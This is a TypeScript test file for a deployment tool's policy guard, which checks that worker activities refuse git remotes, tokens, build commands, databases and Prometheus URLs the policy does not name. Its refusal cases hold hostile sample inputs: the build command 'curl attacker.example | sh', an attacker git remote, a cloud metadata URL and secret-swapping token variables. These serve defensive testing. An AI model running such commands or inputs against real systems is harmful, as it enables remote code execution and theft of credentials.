/**
 * The policy guard as plain code: which wiring each activity call asks for, and which of it the
 * worker's policy allows. An activity handed wiring the policy lacks must never act on it.
 */
import { describe, expect, it } from 'vitest';
import { ApplicationFailure } from '@temporalio/common';
import { parseConfig } from '../../config/schema.js';
import { PolicyGuard, allowedWiring, refusedWiring, wiringOf } from '../../worker/policy-guard.js';

const config = parseConfig(
  `
gitops: { url: https://git.example/acme/gitops.git, branch: main, tokenFromEnv: GITOPS_TOKEN }
apps:
  todoapp:
    source: { github: acme/todoapp }
    images: [todoapp/web]
    build: { command: make images }
    environments:
      - name: staging
        overlay: overlays/staging
        argocd: { application: todoapp-staging }
        checks: [ { http: { url: https://staging.todo.example/healthz } } ]
        notify: [ log, { discord: { urlFromEnv: DISCORD_URL } } ]
        backup: { schedule: "0 3 * * *", postgres: { urlFromEnv: STAGING_DB }, verify: { postgres: { urlFromEnv: SCRATCH_DB } } }
`,
  'slipway.yaml',
);
const allowed = allowedWiring(config);
const git = { url: 'https://git.example/acme/gitops.git', branch: 'main', tokenFromEnv: 'GITOPS_TOKEN', author: { name: 'a', email: 'a@b' } };

describe('policy guard', () => {
  it('lets through every call whose wiring the policy has', () => {
    const calls: Array<[string, Record<string, unknown>]> = [
      ['readOverlayImages', { git, overlay: 'overlays/staging', imageNames: [] }],
      ['writeOverlayImages', { git: { ...git, author: { name: 'someone else', email: 'x@y' } }, overlay: 'overlays/staging' }],
      ['waitForHealthy', { app: { application: 'todoapp-staging', namespace: 'argocd' }, git }],
      ['refreshApplication', { app: { application: 'todoapp-staging', namespace: 'argocd' } }],
      ['triggerBuild', { source: { repo: 'Acme/TodoApp', tokenFromEnv: 'GITHUB_TOKEN' } }],
      ['runBuildCommand', { command: 'make images' }],
      ['httpCheck', { url: 'https://staging.todo.example/healthz' }],
      ['notify', { channels: ['log', { discord: { urlFromEnv: 'DISCORD_URL' } }] }],
      ['takeBackup', { databaseUrlFromEnv: 'STAGING_DB' }],
      ['verifyBackup', { databaseUrlFromEnv: 'STAGING_DB', verifyUrlFromEnv: 'SCRATCH_DB' }],
      ['pruneBackups', { app: 'todoapp', environment: 'staging', keep: 3 }],
    ];
    for (const [activity, input] of calls) expect(refusedWiring(activity, input, allowed), activity).toEqual([]);
  });

  it('refuses a remote, a token variable, a command, a channel, a database variable or an application it does not have', () => {
    const refused: Array<[string, Record<string, unknown>, string]> = [
      ['writeOverlayImages', { git: { ...git, url: 'https://attacker.example/x.git' }, overlay: 'overlays/staging' }, 'GitOps repository'],
      ['readOverlayImages', { git: { ...git, tokenFromEnv: 'PROD_DATABASE_URL' } }, 'GitOps repository'],
      ['waitForHealthy', { app: { application: 'todoapp-staging', namespace: 'argocd' }, git: { ...git, branch: 'other' } }, 'GitOps repository'],
      ['createReleaseTag', { source: { repo: 'acme/todoapp', tokenFromEnv: 'TEMPORAL_API_KEY' } }, 'source repository'],
      ['runBuildCommand', { command: 'curl attacker.example | sh' }, 'build command'],
      ['notify', { channels: [{ slack: { urlFromEnv: 'GITOPS_TOKEN' } }] }, 'notification channel'],
      ['verifyBackup', { databaseUrlFromEnv: 'GITOPS_TOKEN' }, 'database variable'],
      // The scratch server verification restores on is a database the policy must name too.
      ['verifyBackup', { databaseUrlFromEnv: 'STAGING_DB', verifyUrlFromEnv: 'TEMPORAL_API_KEY' }, 'database variable'],
      ['refreshApplication', { app: { application: 'kube-system-app', namespace: 'kube-system' } }, 'Argo CD Application'],
      ['httpCheck', { url: 'http://169.254.169.254/latest/meta-data' }, 'check URL'],
    ];
    for (const [activity, input, words] of refused) {
      const problems = refusedWiring(activity, input, allowed);
      expect(problems, activity).toHaveLength(1);
      expect(problems[0]).toContain(words);
    }
  });

  it('refuses a build command asking for a variable the policy does not pass to that app’s command', () => {
    // The policy above names no variables for `make images`: a call asking for the worker's token is refused.
    const asked = refusedWiring('runBuildCommand', { command: 'make images', app: 'todoapp', env: ['GITHUB_TOKEN'] }, allowed);
    expect(asked).toHaveLength(1);
    expect(asked[0]).toContain('variables passed to the build command');

    const twoApps = allowedWiring(
      parseConfig(
        `
gitops: { url: https://git.example/acme/gitops.git }
apps:
  todoapp: { images: [todoapp/web], build: { command: make images, env: [NPM_TOKEN] }, environments: [ { name: staging, overlay: o, argocd: { application: todoapp-staging } } ] }
  deployer: { images: [deployer/web], build: { command: make images, env: [GITOPS_TOKEN] }, environments: [ { name: staging, overlay: p, argocd: { application: deployer-staging } } ] }
`,
        'two-apps.yaml',
      ),
    );
    const build = (app: string, env?: unknown) => refusedWiring('runBuildCommand', { command: 'make images', app, ...(env === undefined ? {} : { env }) }, twoApps);
    expect(build('todoapp', ['NPM_TOKEN'])).toEqual([]);
    expect(build('deployer', ['GITOPS_TOKEN'])).toEqual([]);
    // Fewer than the policy names (none, or a call from a release recorded before builds had a list) gives the build less, never more.
    expect(build('todoapp', [])).toEqual([]);
    expect(build('todoapp')).toEqual([]);
    // Another app's variables for the same command, one too many, or a list that is not a list of names.
    expect(build('todoapp', ['GITOPS_TOKEN'])).toHaveLength(1);
    expect(build('todoapp', ['NPM_TOKEN', 'TEMPORAL_API_KEY'])).toHaveLength(1);
    expect(build('todoapp', 'NPM_TOKEN')).toHaveLength(1);
    expect(build('todoapp', [{ name: 'NPM_TOKEN' }])).toHaveLength(1);
  });

  it('reads wiring from the fields each activity takes, and nothing from activities that take none', () => {
    expect(wiringOf('requestPromotion', { git })).toEqual([]);
    expect(wiringOf('notify', { channels: ['log', 'log'] })).toHaveLength(2);
    expect(wiringOf('readOverlayImages', undefined)).toEqual([]);
  });

  it('throws a non-retryable RequestRefused that names no value from the worker’s environment', () => {
    process.env.SLIPWAY_GUARD_TEST_SECRET = 'hunter2-secret-value';
    const guard = new PolicyGuard(() => [{ config }]);
    let thrown: unknown;
    try {
      guard.check('readOverlayImages', { git: { ...git, tokenFromEnv: 'SLIPWAY_GUARD_TEST_SECRET' } });
    } catch (err) {
      thrown = err;
    }
    expect(thrown).toBeInstanceOf(ApplicationFailure);
    expect((thrown as ApplicationFailure).type).toBe('RequestRefused');
    expect((thrown as ApplicationFailure).nonRetryable).toBe(true);
    expect((thrown as ApplicationFailure).message).not.toContain('hunter2');
  });

  it('allows the wiring of every policy version the worker has read', () => {
    const next = parseConfig(
      `
gitops: { url: https://git.example/acme/gitops-v2.git }
apps: { todoapp: { images: [todoapp/web], environments: [ { name: staging, overlay: o, argocd: { application: todoapp-staging } } ] } }
`,
      'v2.yaml',
    );
    const versions = [{ config }];
    const guard = new PolicyGuard(() => versions);
    const v2git = { url: 'https://git.example/acme/gitops-v2.git', branch: 'main' };
    expect(() => guard.check('readOverlayImages', { git: v2git })).toThrow(/not in the worker's policy/);
    versions.push({ config: next });
    expect(() => guard.check('readOverlayImages', { git: v2git })).not.toThrow();
    expect(() => guard.check('readOverlayImages', { git })).not.toThrow();
  });
});

describe('policy guard: metric checks', () => {
  const metrics = allowedWiring(
    parseConfig(
      `
gitops: { url: https://git.example/acme/gitops.git }
apps:
  todoapp:
    images: [todoapp/web]
    environments:
      - name: staging
        overlay: overlays/staging
        argocd: { application: todoapp-staging }
        checks:
          - metric: { prometheus: "http://prometheus.monitoring:9090", query: 'sum(up{app="{{app}}"})', condition: "> 0" }
          - metric: { prometheus: "https://metrics.example/prom", tokenFromEnv: METRICS_TOKEN, query: 'sum(up)', condition: "> 0" }
`,
      'metrics.yaml',
    ),
  );
  const call = (prometheus: string, tokenFromEnv?: string) => ({ prometheus, ...(tokenFromEnv ? { tokenFromEnv } : {}), query: 'sum(up)', variables: {} });

  it('lets a metric check ask a Prometheus the policy names, with the token variable the policy gives it', () => {
    expect(refusedWiring('metricCheck', call('http://prometheus.monitoring:9090'), metrics)).toEqual([]);
    expect(refusedWiring('metricCheck', call('https://metrics.example/prom', 'METRICS_TOKEN'), metrics)).toEqual([]);
  });

  it('refuses another Prometheus URL, a token variable the policy does not give that Prometheus, or none where it gives one', () => {
    const refused: Array<Record<string, unknown>> = [
      call('http://169.254.169.254/latest/meta-data'),
      // The worker's GitOps token sent to a Prometheus the policy knows, as a bearer token.
      call('http://prometheus.monitoring:9090', 'GITOPS_TOKEN'),
      call('https://metrics.example/prom', 'GITHUB_TOKEN'),
      call('https://metrics.example/prom'),
      { query: 'sum(up)' },
    ];
    for (const input of refused) {
      const problems = refusedWiring('metricCheck', input, metrics);
      expect(problems, JSON.stringify(input)).toEqual(["metricCheck: the Prometheus (URL, token variable) it was given is not in the worker's policy"]);
    }
    expect(wiringOf('metricCheck', call('http://prometheus.monitoring:9090'))).toEqual([{ kind: 'prometheus', key: '["http://prometheus.monitoring:9090",null]' }]);
  });
});

describe('policy guard: pull-request mode', () => {
  const policy = (write: string) =>
    allowedWiring(
      parseConfig(
        `
gitops: { url: https://github.com/acme/gitops.git, tokenFromEnv: GITOPS_TOKEN }
apps:
  todoapp:
    images: [todoapp/web]
    environments:
      - name: staging
        overlay: overlays/staging
        argocd: { application: todoapp-staging }
      - name: production
        overlay: overlays/production
        argocd: { application: todoapp-production }
        write: ${write}
`,
        'slipway.yaml',
      ),
    );
  const gitops = { url: 'https://github.com/acme/gitops.git', branch: 'main', tokenFromEnv: 'GITOPS_TOKEN' };
  const github = { repo: 'acme/gitops', tokenFromEnv: 'GITOPS_TOKEN' };
  const promote = { kind: 'promote' };
  const rollback = { kind: 'rollback' };

  it('refuses a direct push of a promotion to the overlay of an environment in pull-request mode, saying why', () => {
    const problems = refusedWiring('writeOverlayImages', { git: gitops, overlay: 'overlays/production', context: promote }, policy('pull-request'));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/overlay overlays\/production belongs to an environment in pull-request mode .*takes changes through pull requests only: nothing was pushed/);
    // The other environment, and the same one in push mode, push as before.
    expect(refusedWiring('writeOverlayImages', { git: gitops, overlay: 'overlays/staging', context: promote }, policy('pull-request'))).toEqual([]);
    expect(refusedWiring('writeOverlayImages', { git: gitops, overlay: 'overlays/production', context: promote }, policy('push'))).toEqual([]);
  });

  it('lets a rollback push straight to the base only where the policy says rollback: push', () => {
    const call = { git: gitops, overlay: 'overlays/production', context: rollback };
    expect(refusedWiring('writeOverlayImages', call, policy('pull-request'))[0]).toMatch(/takes rollbacks through pull requests only/);
    expect(refusedWiring('writeOverlayImages', call, policy('{ pullRequest: { rollback: push } }'))).toEqual([]);
    // A promotion calling itself a rollback is the only way through, and it is one the policy allows: promotions stay refused.
    expect(refusedWiring('writeOverlayImages', { ...call, context: promote }, policy('{ pullRequest: { rollback: push } }'))).toHaveLength(1);
  });

  it('writes a branch only for an overlay in pull-request mode, on the policy\'s GitOps repository', () => {
    expect(refusedWiring('writeOverlayBranch', { git: gitops, overlay: 'overlays/production' }, policy('pull-request'))).toEqual([]);
    expect(refusedWiring('writeOverlayBranch', { git: gitops, overlay: 'overlays/staging' }, policy('pull-request'))).toHaveLength(1);
    expect(refusedWiring('writeOverlayBranch', { git: { ...gitops, url: 'https://github.com/evil/gitops.git' }, overlay: 'overlays/production' }, policy('pull-request'))).toHaveLength(1);
  });

  it("opens pull requests only on the policy's repository with its token, from a Slipway branch into the GitOps branch, with the policy's labels and reviewers", () => {
    const allowed = policy('{ pullRequest: { labels: [deploy], reviewers: [alice] } }');
    const open = { ...github, head: 'slipway/release-todoapp-1/production', base: 'main', labels: ['deploy'], reviewers: ['alice'] };
    expect(refusedWiring('openPullRequest', open, allowed)).toEqual([]);
    expect(refusedWiring('openPullRequest', { ...open, repo: 'acme/other' }, allowed)).toHaveLength(1);
    expect(refusedWiring('openPullRequest', { ...open, tokenFromEnv: 'ADMIN_TOKEN' }, allowed)).toHaveLength(1);
    expect(refusedWiring('openPullRequest', { ...open, head: 'release-1.4' }, allowed)).toHaveLength(1);
    expect(refusedWiring('openPullRequest', { ...open, base: 'release-1.4' }, allowed)).toHaveLength(1);
    expect(refusedWiring('openPullRequest', { ...open, labels: ['deploy', 'skip-ci'] }, allowed)).toEqual([expect.stringContaining('label or reviewer')]);
    expect(refusedWiring('openPullRequest', { ...open, reviewers: 'alice' }, allowed)).toHaveLength(1);
    for (const activity of ['pullRequestState', 'mergePullRequest', 'closePullRequest']) {
      expect(refusedWiring(activity, { ...github, number: 7 }, allowed)).toEqual([]);
      expect(refusedWiring(activity, { ...github, repo: 'acme/other', number: 7 }, allowed)).toHaveLength(1);
    }
    // No environment in pull-request mode: no pull request at all.
    expect(refusedWiring('pullRequestState', { ...github, number: 7 }, policy('push'))).toHaveLength(1);
  });
});

describe('policy guard: previews', () => {
  const policy = allowedWiring(
    parseConfig(
      `
gitops: { url: https://github.com/acme/gitops.git, tokenFromEnv: GITOPS_TOKEN }
apps:
  todoapp:
    source: { github: acme/todoapp }
    images: [todoapp/web]
    previews: { template: 1.2/overlays/preview-template }
    environments:
      - name: staging
        overlay: 1.2/overlays/staging
        argocd: { application: todoapp-staging }
  billing:
    images: [billing/api]
    environments:
      - name: staging
        overlay: billing/staging
        argocd: { application: billing-staging }
`,
      'slipway.yaml',
    ),
  );
  const previewsGit = { url: 'https://github.com/acme/gitops.git', branch: 'slipway/previews', tokenFromEnv: 'GITOPS_TOKEN' };
  const write = {
    git: previewsGit,
    template: '1.2/overlays/preview-template',
    path: '1.2/overlays/previews/pr-12',
    context: { app: 'todoapp', number: 12, headSha: 'abc1234' },
  };
  const application = {
    app: 'todoapp',
    number: 12,
    application: 'todoapp-pr-12',
    namespace: 'argocd',
    project: 'default',
    repoURL: 'https://github.com/acme/gitops.git',
    path: '1.2/overlays/previews/pr-12',
    targetRevision: 'slipway/previews',
    destination: { namespace: 'todoapp-pr-12' },
  };

  it('writes and removes an app\'s previews only in its previews folder on its previews branch, from its template', () => {
    expect(refusedWiring('writePreviewOverlay', write, policy)).toEqual([]);
    expect(refusedWiring('removePreviewOverlay', write, policy)).toEqual([]);
    expect(refusedWiring('writePreviewOverlay', { ...write, path: '1.2/overlays/production' }, policy)).toHaveLength(1);
    expect(refusedWiring('removePreviewOverlay', { ...write, path: '1.2/overlays/staging' }, policy)).toHaveLength(1);
    expect(refusedWiring('writePreviewOverlay', { ...write, template: '1.2/overlays/production' }, policy)).toHaveLength(1);
    expect(refusedWiring('writePreviewOverlay', { ...write, git: { ...previewsGit, branch: 'main' } }, policy)).toHaveLength(1);
    // An app without previews has no previews folder.
    expect(refusedWiring('writePreviewOverlay', { ...write, context: { ...write.context, app: 'billing' } }, policy)).not.toEqual([]);
  });

  it("makes a preview Application only as the app's, deploying its previews branch into a namespace of its own name", () => {
    expect(refusedWiring('ensurePreviewApplication', application, policy)).toEqual([]);
    expect(refusedWiring('ensurePreviewApplication', { ...application, repoURL: 'https://github.com/evil/gitops.git' }, policy)).toHaveLength(1);
    expect(refusedWiring('ensurePreviewApplication', { ...application, targetRevision: 'main' }, policy)).toHaveLength(1);
    expect(refusedWiring('ensurePreviewApplication', { ...application, destination: { namespace: 'kube-system' } }, policy)).toHaveLength(1);
    expect(refusedWiring('ensurePreviewApplication', { ...application, project: 'admin' }, policy)).toHaveLength(1);
    expect(refusedWiring('ensurePreviewApplication', { ...application, app: 'billing', application: 'billing-pr-12', destination: { namespace: 'billing-pr-12' } }, policy)).not.toEqual([]);
  });

  it("waits on and deletes only the app's preview Applications, by name", () => {
    const app = { application: 'todoapp-pr-12', namespace: 'argocd' };
    expect(refusedWiring('waitForHealthy', { app, git: previewsGit }, policy)).toEqual([]);
    expect(refusedWiring('refreshApplication', { app }, policy)).toEqual([]);
    expect(refusedWiring('deletePreviewApplication', { ...app, app: 'todoapp', number: 12 }, policy)).toEqual([]);
    expect(refusedWiring('deletePreviewApplication', { application: 'billing-staging', namespace: 'argocd', app: 'todoapp', number: 12 }, policy)).toHaveLength(1);
    expect(refusedWiring('refreshApplication', { app: { application: 'todoapp-pr-12', namespace: 'kube-system' } }, policy)).toHaveLength(1);
    expect(refusedWiring('refreshApplication', { app: { application: 'todoapp-PR_12', namespace: 'argocd' } }, policy)).toHaveLength(1);
  });

  it("reads and comments on the source repository's pull requests with its token only", () => {
    expect(refusedWiring('pullRequestState', { repo: 'acme/todoapp', tokenFromEnv: 'GITHUB_TOKEN', number: 12 }, policy)).toEqual([]);
    expect(refusedWiring('upsertComment', { repo: 'acme/todoapp', number: 12, marker: 'preview/todoapp', body: 'x' }, policy)).toEqual([]);
    expect(refusedWiring('upsertComment', { repo: 'acme/other', number: 12, marker: 'preview/todoapp', body: 'x' }, policy)).toHaveLength(1);
    expect(refusedWiring('upsertComment', { repo: 'acme/todoapp', tokenFromEnv: 'GITOPS_TOKEN', number: 12, marker: 'm', body: 'x' }, policy)).toHaveLength(1);
  });
});
